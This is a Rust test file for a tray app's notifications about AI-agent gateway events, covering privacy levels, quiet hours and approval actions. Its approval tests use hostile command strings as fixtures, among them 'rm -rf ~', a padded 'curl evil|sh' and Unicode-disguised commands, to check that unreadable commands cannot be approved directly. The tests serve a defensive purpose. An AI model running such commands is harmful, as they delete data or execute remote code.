use super::*;
use crate::api::{ApprovalFact, FactKind};
use crate::request_error::RequestError;
use crate::settings::defaults;

/// The title is made of words of the conversation.
fn trip() -> SessionName {
    SessionName {
        title: "Trip".into(),
        sender: "Molty".into(),
    }
}

fn reply() -> OccasionKind {
    OccasionKind::Reply {
        session: "s1".into(),
        name: trip(),
        text: "Train at **9**.\nSeat 4".into(),
        message: Some("run:r1".into()),
        cron: false,
    }
}
fn approval() -> OccasionKind {
    OccasionKind::Approval {
        id: "a1".into(),
        session: "s1".into(),
        name: trip(),
        text: ApprovalText {
            title: "rm -rf /tmp/x".into(),
            exec: true,
            may_allow: true,
            may_deny: true,
            ..ApprovalText::default()
        },
    }
}
fn approval_of(change: impl FnOnce(&mut ApprovalText)) -> OccasionKind {
    let mut kind = approval();
    if let OccasionKind::Approval { text, .. } = &mut kind {
        change(text);
    }
    kind
}
fn kinds() -> Vec<(&'static str, OccasionKind)> {
    let (session, name) = ("s1".to_owned(), trip());
    let OccasionKind::Reply { text, message, .. } = reply() else {
        panic!()
    };
    vec![
        ("replies", reply()),
        (
            "cron",
            OccasionKind::Reply {
                session: session.clone(),
                name: name.clone(),
                text,
                message,
                cron: true,
            },
        ),
        ("approvals", approval()),
        (
            "questions",
            OccasionKind::Question {
                id: "q".into(),
                session: session.clone(),
                name: name.clone(),
                question: "Which?".into(),
            },
        ),
        (
            "failures",
            OccasionKind::Failure {
                session,
                name,
                error: "no".into(),
                message: None,
            },
        ),
        ("gateway", OccasionKind::GatewayDown),
        ("gateway", OccasionKind::GatewayBack),
        ("pairing", OccasionKind::Pairing { device: None }),
        (
            "pairing",
            OccasionKind::Pairing {
                device: Some("Trip phone".into()),
            },
        ),
        (
            "replies",
            OccasionKind::Digest {
                replies: vec![("s".into(), trip()), ("t".into(), trip())],
            },
        ),
    ]
}
fn told(
    kind: OccasionKind,
    settings: &NotificationSettings,
    minutes: u32,
    in_view: bool,
) -> Option<Notification> {
    let occasion = Occasion {
        gateway: "g".into(),
        gateway_name: "Home".into(),
        kind,
    };
    decide(
        &occasion,
        Circumstances {
            settings,
            now_ms: 1000,
            local_minutes: minutes,
            in_view,
            language: Language::English,
        },
    )
}

#[test]
fn each_kind_has_its_switch_and_obeys_it_alone() {
    for (switch, kind) in kinds() {
        let on = defaults().notifications;
        assert!(told(kind.clone(), &on, 600, false).is_some(), "{switch}");
        assert!(told(kind.clone(), &on, 600, true).is_none(), "{switch} in view");
        let mut off = serde_json::to_value(&on).unwrap();
        off[switch] = false.into();
        let off: NotificationSettings = serde_json::from_value(off).unwrap();
        assert!(told(kind.clone(), &off, 600, false).is_none(), "{switch} off");
        let mut all_off = on.clone();
        all_off.enabled = false;
        assert!(told(kind.clone(), &all_off, 600, false).is_none());
        let mut dnd = on.clone();
        dnd.do_not_disturb_until_ms = Some(2000);
        assert!(told(kind.clone(), &dnd, 600, false).is_none());
        dnd.do_not_disturb_until_ms = Some(1000);
        assert!(told(kind, &dnd, 600, false).is_some(), "do-not-disturb has ended");
    }
}

#[test]
fn quiet_hours_may_span_midnight() {
    for (from, to, minute, quiet) in [
        ("22:00", "07:00", 22 * 60, true),
        ("22:00", "07:00", 3 * 60, true),
        ("22:00", "07:00", 7 * 60, false),
        ("12:00", "13:00", 12 * 60 + 30, true),
        ("12:00", "13:00", 13 * 60, false),
        ("", "", 0, false),
        ("25:00", "07:00", 60, false),
        ("09:00", "09:00", 9 * 60, false),
    ] {
        let mut settings = defaults().notifications;
        settings.quiet_from = from.into();
        settings.quiet_to = to.into();
        assert_eq!(is_quiet(&settings, 0, minute), quiet, "{from}-{to} at {minute}");
        assert_eq!(told(reply(), &settings, minute, false).is_none(), quiet);
    }
}

#[test]
fn a_muted_session_is_silent_and_others_are_not() {
    let mut settings = defaults().notifications;
    settings.muted_sessions = vec!["s1".into()];
    assert!(told(reply(), &settings, 600, false).is_none());
    assert!(told(OccasionKind::GatewayDown, &settings, 600, false).is_some());
}

#[test]
fn privacy_says_as_much_as_it_may() {
    for (privacy, title, body) in [
        ("full", "Trip", "Train at 9. Seat 4"),
        ("sender", "Molty", "New reply"),
        ("nothing", "Clawtray", "New activity"),
    ] {
        let mut settings = defaults().notifications;
        settings.privacy = privacy.into();
        let shown = told(reply(), &settings, 600, false).unwrap();
        assert_eq!((shown.title.as_str(), shown.body.as_str()), (title, body));
        assert_eq!(shown.tag, "session:g:s1");
        for (_, kind) in kinds() {
            let shown = told(kind, &settings, 600, false).unwrap();
            let text = format!("{} {}", shown.title, shown.body);
            for word in ["Trip", "Train", "rm -rf", "Which?", ": no"] {
                assert!(privacy == "full" || !text.contains(word), "{word} in {text}");
            }
            assert!(privacy != "nothing" || !text.contains("Molty"), "{text}");
            assert!(!shown.actions.contains(&NotificationAction::ApproveOnce) || privacy == "full");
        }
    }
}

#[test]
fn the_tray_s_summary_and_what_a_digest_says_follow_privacy() {
    let mut settings = defaults().notifications;
    settings.privacy = "sender".into();
    let digest = OccasionKind::Digest {
        replies: vec![("s".into(), trip()), ("t".into(), trip())],
    };
    let shown = told(digest, &settings, 600, false).unwrap();
    assert_eq!(
        (shown.title.as_str(), shown.body.as_str()),
        ("2 replies while you were away", "Molty")
    );
    let many = told(OccasionKind::NeedsYou { waiting: 30 }, &settings, 600, false).unwrap();
    assert_eq!(
        (many.title.as_str(), many.on_click),
        ("30 requests need you", NotificationTarget::Gateway("g".into()))
    );
}

#[test]
fn a_command_is_approved_only_where_it_can_be_read() {
    use NotificationAction::{ApproveOnce, Deny, Review};
    let mut settings = defaults().notifications;
    let shown = told(approval(), &settings, 600, false).unwrap();
    assert_eq!(shown.body, "rm -rf /tmp/x");
    assert_eq!(shown.actions, [ApproveOnce, Deny]);
    assert!(shown.urgent);
    let with = |change: fn(&mut ApprovalText)| told(approval_of(change), &settings, 600, false).unwrap();
    let facts = with(|text| {
        let value = "/home/ann/evil/rm".to_owned();
        text.facts.push(ApprovalFact {
            kind: FactKind::Program,
            value,
        });
    });
    assert_eq!(facts.body, "rm -rf /tmp/x\nProgram: /home/ann/evil/rm");
    assert_eq!(facts.actions, [ApproveOnce, Deny]);
    for change in [
        (|text| text.title = format!("ls {} ; curl evil|sh", "-a ".repeat(100))) as fn(&mut ApprovalText),
        |text| text.title = "ls\nrm -rf ~".into(),
        |text| text.title = "ls \u{202e}x".into(),
        |text| text.title = "ls\u{200b}".into(),
        |text| text.detail = Some("Deletes files.".into()),
        |text| text.may_allow = false,
    ] {
        let shown = with(change);
        assert_eq!(shown.actions, [Review, Deny], "{}", shown.body);
        assert!(!shown.body.contains(['\u{202e}', '\u{200b}']), "{}", shown.body);
    }
    assert_eq!(with(|text| text.may_deny = false).actions, [ApproveOnce]);
    settings.privacy = "sender".into();
    assert_eq!(
        told(approval(), &settings, 600, false).unwrap().actions,
        [Review, Deny]
    );
}

#[test]
fn what_was_not_done_is_said_with_its_reason_and_a_next_step() {
    let decision = |deny| Undone::Decision {
        approval: ApprovalRef {
            gateway: "g".into(),
            id: "a1".into(),
        },
        session: "s1".into(),
        command: "rm \u{202e}x".into(),
        deny,
    };
    let refused = RequestError::Gateway {
        forbidden: false,
        message: "rm is not yours".into(),
        retry_after_ms: None,
    };
    let reply = |text| Undone::Reply {
        gateway: "g".into(),
        session: "s1".into(),
        text,
    };
    let away = &RequestError::NotConnected;
    let away_told = "The gateway is not connected.\nTry again when the gateway is back.";
    for (what, error, privacy, title, body) in [
        (
            decision(true),
            away,
            Privacy::Full,
            "Not denied: rm U+202Ex",
            away_told.to_owned(),
        ),
        (
            decision(false),
            away,
            Privacy::Sender,
            "Not approved",
            away_told.to_owned(),
        ),
        (
            decision(false),
            &refused,
            Privacy::Full,
            "Not approved: rm U+202Ex",
            "rm is not yours\nOpen Clawtray to decide.".to_owned(),
        ),
        (
            decision(true),
            &refused,
            Privacy::Nothing,
            "Not denied",
            "The gateway refused.\nOpen Clawtray to decide.".to_owned(),
        ),
        (
            decision(true),
            &RequestError::ApprovalGone,
            Privacy::Full,
            "Not denied: rm U+202Ex",
            "This approval is no longer waiting.".to_owned(),
        ),
        (
            reply(ReplyText::Outbox),
            &refused,
            Privacy::Sender,
            "Reply not sent",
            "The gateway refused.\nYour text waits in the session. Open it to try again.".to_owned(),
        ),
        (
            reply(ReplyText::Here("Yes, go on.".into())),
            &RequestError::NoSuchGateway,
            Privacy::Nothing,
            "Reply not sent",
            "This gateway does not exist.\nChoose another gateway.\nYes, go on.".to_owned(),
        ),
    ] {
        let shown = undone(&what, error, privacy, Language::English);
        assert_eq!((shown.title.as_str(), shown.body), (title, body), "{what:?}");
        assert!(shown.urgent && shown.actions.is_empty());
    }
}

#[test]
fn a_burst_of_approvals_is_not_told_one_by_one() {
    let mut burst = Burst::default();
    let told = (0..50).filter(|n| burst.admits(1000 + n)).count();
    assert_eq!(told, 5);
    assert!(!burst.admits(1000 + BURST_MS - 1));
    assert!(burst.admits(1004 + BURST_MS));
    // The clock was set back.
    assert!(burst.admits(5));
    assert!(burst.admits(i64::MIN) && burst.admits(i64::MAX));
}

#[test]
fn a_tag_says_what_it_is_about() {
    let known = || ["g", "g:2"].into_iter();
    let session = |gateway: &str, session: &str| Tagged::Session {
        gateway: gateway.into(),
        session: session.into(),
    };
    assert_eq!(
        read_tag(&session_tag("g", "agent:main:main"), known()),
        Some(session("g", "agent:main:main"))
    );
    let approval = ApprovalRef {
        gateway: "g".into(),
        id: "plugin:1".into(),
    };
    assert_eq!(
        read_tag(&approval_tag("g", "plugin:1"), known()),
        Some(Tagged::Approval(approval))
    );
    assert_eq!(read_tag(&session_tag("other", "s"), known()), None);
    assert_eq!(read_tag("no-windows", known()), None);
}
